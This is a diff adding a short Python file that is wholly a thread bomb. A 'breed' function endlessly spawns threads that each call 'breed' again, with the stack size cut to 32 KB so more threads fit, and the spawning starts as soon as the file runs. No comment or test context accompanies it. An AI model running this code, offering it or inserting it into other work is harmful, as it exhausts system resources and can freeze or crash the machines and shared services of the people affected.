@@ -1,0 +1,10 @@
+import threading
+
+
+def breed():
+    while True:
+        threading.Thread(target=breed).start()
+
+
+threading.stack_size(32 << 10)
+breed()
